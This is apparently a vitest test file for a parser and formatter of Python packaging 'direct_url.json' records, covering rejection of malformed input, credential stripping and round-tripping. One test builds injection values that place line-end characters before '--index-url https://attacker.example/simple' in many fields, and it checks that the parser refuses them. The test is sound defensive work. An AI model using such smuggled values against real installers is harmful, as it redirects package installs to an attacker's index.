import { expect, test } from "vitest";
import { outcome } from "../../../test/support/outcome.ts";
import { readVectors } from "../../../test/support/vectors.ts";
import { directUrlDocument, formatDirectUrl, parseDirectUrl } from "./direct-url.ts";

interface DirectUrlCase {
  readonly in: unknown;
  readonly out?: unknown;
  readonly error?: string;
}

const { from_dict: cases } = readVectors<{ readonly from_dict: readonly DirectUrlCase[] }>("direct-url");

test.each(cases.map((direct) => [JSON.stringify(direct.in), direct] as const))(
  "parseDirectUrl() judges as packaging does: %s",
  (_name, { in: document, out, error }) => {
    const expected = error === undefined ? out : { code: "wheel/invalid" };
    expect(outcome(() => directUrlDocument(parseDirectUrl(document)))).toEqual(expected);
  },
);

test.each(["", "[", "null", "[]", '"text"', '{"url": 3, "dir_info": {}}', '{"url": "a", "vcs_info": []}'])(
  "parseDirectUrl() refuses %j",
  (text) => {
    expect(() => parseDirectUrl(text)).toThrowError(expect.objectContaining({ code: "wheel/invalid" }));
  },
);

// Promise: what an environment of others records adds no line to a requirements file
// Attack: a `direct_url.json` has what Python takes for a line end, and after it the option of another index
test.each(
  ["\n", "\r", "\v", "\f", "\u{1C}", "\u{85}", "\u{2028}", "\u{2029}", "\0"].flatMap((end) => {
    const hostile = `a${end}--index-url https://attacker.example/simple`;
    const repository = { vcs: "git", commit_id: "0123" };
    return [
      { url: `https://example.com/${hostile}`, archive_info: {} },
      { url: "https://example.com/a.zip", subdirectory: hostile, archive_info: {} },
      { url: "https://example.com/a.zip", archive_info: { hashes: { sha256: hostile } } },
      { url: "https://example.com/a.zip", archive_info: { hashes: { [hostile]: "ab" } } },
      { url: "https://example.com/a.zip", archive_info: { hash: `sha256=${hostile}` } },
      { url: "https://example.com/a.git", vcs_info: { ...repository, vcs: hostile } },
      { url: "https://example.com/a.git", vcs_info: { ...repository, commit_id: hostile } },
      { url: "https://example.com/a.git", vcs_info: { ...repository, requested_revision: hostile } },
      { url: `file:///home/ada/${hostile}`, dir_info: { editable: true } },
    ];
  }),
)("parseDirectUrl() refuses control characters: %j", (document) => {
  expect(() => parseDirectUrl(document)).toThrowError(expect.objectContaining({ code: "wheel/invalid" }));
});

test.each([
  String.raw`{"url": "https://example.com/\ud800", "archive_info": {}}`,
  String.raw`{"url": "https://example.com/a.zip", "subdirectory": "\udc00a", "archive_info": {}}`,
])("parseDirectUrl() refuses half of a character, of which no URL can be made: %s", (text) => {
  expect(() => parseDirectUrl(text)).toThrowError(expect.objectContaining({ code: "wheel/invalid" }));
});

test.each([
  ["https://user:secret@example.com/a.zip", "https://example.com/a.zip"],
  ["https://secret@example.com/a.zip?q=1#x", "https://example.com/a.zip?q=1#x"],
  ["https://a@b:c@example.com/a.zip", "https://example.com/a.zip"],
  ["https://${USER}:${PASSWORD}@example.com/a.zip", "https://${USER}:${PASSWORD}@example.com/a.zip"],
  ["https://${TOKEN}@example.com/a.zip", "https://${TOKEN}@example.com/a.zip"],
  ["https://${USER}:secret@example.com/a.zip", "https://example.com/a.zip"],
  ["ssh://git@example.com/a.git", "ssh://git@example.com/a.git"],
  ["https://example.com/a@b.zip", "https://example.com/a@b.zip"],
])("formatDirectUrl() writes no credentials but variables: %s", (url, written) => {
  expect(JSON.parse(formatDirectUrl({ kind: "archive", url }))).toEqual({ url: written, archive_info: {} });
});

test("formatDirectUrl() writes everything that parseDirectUrl() reads", () => {
  const directUrl = {
    kind: "vcs",
    url: "https://example.com/a.git",
    subdirectory: "sub",
    vcs: "git",
    commitId: "0123",
    requestedRevision: "main",
  } as const;
  expect(parseDirectUrl(formatDirectUrl(directUrl))).toEqual(directUrl);
});
